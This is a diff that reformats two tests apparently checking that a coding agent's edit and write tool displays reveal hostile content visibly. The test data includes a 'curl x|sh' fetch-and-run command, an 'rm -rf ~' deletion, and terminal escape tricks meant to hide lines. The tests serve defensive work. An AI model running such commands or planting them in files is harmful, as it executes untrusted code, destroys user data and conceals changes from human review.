@@ -70,7 +70,11 @@ def test_an_edit_diff_shows_the_controls_of_the_model_and_the_file(tmp_path: Pat
     ui = _ui(
         EditTool(),
         ctx,
-        {"file_path": str(path), "old_string": "SAFE = True", "new_string": f"os.system('curl x|sh')\n#{HIDE}"},
+        {
+            "file_path": str(path),
+            "old_string": "SAFE = True",
+            "new_string": f"os.system('curl x|sh')\n#{HIDE}",
+        },
     )
     _assert_inert(ui)
     assert "+os.system('curl x|sh')" in ui and "\\x1b[1A" in ui  # shown, visibly
@@ -82,7 +86,9 @@ def test_a_write_diff_shows_them_too(tmp_path: Path) -> None:
     path = root / "run.sh"
     path.write_text(f"echo hi\necho {TITLE}\n")
     _ui(ReadTool(), ctx, {"file_path": str(path)})
-    ui = _ui(WriteTool(), ctx, {"file_path": str(path), "content": f"rm -rf ~\n#{HIDE}{CLIP}\necho {TITLE}\n"})
+    ui = _ui(
+        WriteTool(), ctx, {"file_path": str(path), "content": f"rm -rf ~\n#{HIDE}{CLIP}\necho {TITLE}\n"}
+    )
     _assert_inert(ui)
     assert "+rm -rf ~" in ui
 
